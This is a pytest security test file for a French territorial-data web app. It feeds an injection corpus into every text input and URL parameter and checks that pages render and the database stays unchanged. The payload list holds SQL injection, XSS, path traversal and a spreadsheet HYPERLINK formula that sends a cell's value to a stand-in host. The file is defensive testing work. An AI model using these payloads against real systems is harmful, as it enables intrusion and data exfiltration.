"""Injection corpus on every free-text input and on the URL: each page is run, its text inputs are found by what it
renders (not listed by hand), every payload is typed in; the page keeps rendering and the database is unchanged."""

from __future__ import annotations

from pathlib import Path

import pytest

from levier.core.config import PROJECT_ROOT
from levier.store.db import Database
from tests.app.conftest import router_app, texts
from tests.queries import ProbeQuery

PAGES = sorted(f"pages/{p.name}" for p in (PROJECT_ROOT / "pages").glob("*.py"))
PAYLOADS = [
    "'; DROP TABLE fact; --",
    "\" OR 1=1 --",
    "38' OR '1'='1",
    "$1",
    "$dep",
    "{0}",
    "{dep}",
    "%s",
    "%(dep)s",
    "=HYPERLINK(\"http://exemple.invalid/?\"&A1,\"clic\")",
    "<script>alert(1)</script>",
    "[clic](javascript:alert(1))",
    "../../etc/passwd",
    "(?:",
    "\\",
    "x" * 20_000,
    "avant\x00après",
    "\u202eRTL override\u202c",
    "   ",
]


def snapshot(db: Database) -> dict:
    rows = db.read(ProbeQuery.TABLE_ROW_COUNTS)
    return {t: (int(n), str(c)) for t, n, c in zip(rows["table_name"], rows["row_count"], rows["checksum"])}


def _select_territory(at) -> None:
    """Some inputs only appear once a département is chosen (Isère: in the demo data on every page)."""
    keys = {s.key for s in at.sidebar.selectbox}
    if {"sel_reg", "sel_dep"} <= keys:
        at.sidebar.selectbox(key="sel_reg").set_value("84").run()
        at.sidebar.selectbox(key="sel_dep").set_value("38").run()


def _rendered(at) -> bool:
    """No error, and the page's title drawn (Mode présentation writes its h1 in its header line, as markdown)."""
    return not at.exception and (len(at.title) > 0 or any(str(m.value).startswith("# ") for m in at.markdown))


def _text_widgets(at) -> list[tuple[str, str]]:
    return [("text_input", w.key) for w in at.text_input] + [("text_area", w.key) for w in at.text_area]


@pytest.mark.parametrize("page", PAGES, ids=lambda p: Path(p).stem)
def test_every_text_input_takes_the_injection_corpus(app, demo_db, page):
    before = snapshot(demo_db)
    app.run()
    app.switch_page(page).run()
    assert _rendered(app), app.exception
    _select_territory(app)
    assert _rendered(app), app.exception
    widgets = _text_widgets(app)
    for kind, key in widgets:
        assert key, f"{page}: a {kind} without a key cannot be driven by tests"
        for payload in PAYLOADS:
            getattr(app, kind)(key=key).input(payload).run()
            assert not app.exception, (page, key, payload[:40], app.exception)
            assert _rendered(app), (page, key, payload[:40])
            assert "Traceback" not in texts(app)
        getattr(app, kind)(key=key).input("").run()
        assert _rendered(app)
    assert snapshot(demo_db) == before


def test_the_discovery_finds_the_known_search_boxes(app):
    found = {}
    app.run()
    for page in ("pages/indicateurs.py", "pages/t0.py"):
        app.switch_page(page).run()
        _select_territory(app)
        found[page] = [key for _, key in _text_widgets(app)]
    assert found == {"pages/indicateurs.py": ["cat_search"], "pages/t0.py": ["t0_search"]}


@pytest.mark.parametrize("page", PAGES, ids=lambda p: Path(p).stem)
def test_url_parameters_with_payloads_are_dropped_not_trusted(app, demo_db, page):
    before = snapshot(demo_db)
    nasty = {"reg": PAYLOADS[0], "dep": PAYLOADS[1], "epci": PAYLOADS[9], "page": PAYLOADS[12], "x": PAYLOADS[6]}
    app.query_params.update(nasty)
    app.run()
    app.switch_page(page).run()
    assert _rendered(app), (page, app.exception)
    # an unknown code in a shared link is dropped: no territory is selected from it, and it is not echoed
    chosen = {s.key: s.value for s in app.sidebar.selectbox}
    assert not ({chosen.get("sel_reg"), chosen.get("sel_dep"), chosen.get("sel_epci")} & set(nasty.values()))
    assert "DROP TABLE" not in texts(app) and "HYPERLINK" not in texts(app)
    assert snapshot(demo_db) == before


def _fresh_session(query: dict[str, str], said: list[str] | None = None):
    """A new browser session opening a shared link (the selection is read from the URL once per session); what the
    first page says about the link is added to `said`."""
    at = router_app()
    at.query_params.update(query)
    at.run()
    if said is not None:
        said += [w.value for w in at.warning if w.value.startswith("**Lien partagé**")]
    return at.switch_page("pages/t0.py").run()


def test_every_payload_as_a_departement_in_the_url(app, demo_db):
    before = snapshot(demo_db)
    for payload in PAYLOADS:
        said: list[str] = []
        at = _fresh_session({"reg": "84", "dep": payload}, said)
        assert _rendered(at), (payload[:40], at.exception)
        # the payload is dropped and said so in French; the région of the link stays (T0 then shows its territories)
        chosen = {s.key: s.value for s in at.sidebar.selectbox}
        assert chosen["sel_reg"] == "84" and chosen["sel_dep"] == "", payload[:40]
        assert len(said) == 1 and "du lien n'existe pas" in said[0], payload[:40]
    # the same link with a real code selects it: the payloads above were read, then dropped
    assert "Isère (38)" in texts(_fresh_session({"reg": "84", "dep": "38"}))
    assert snapshot(demo_db) == before
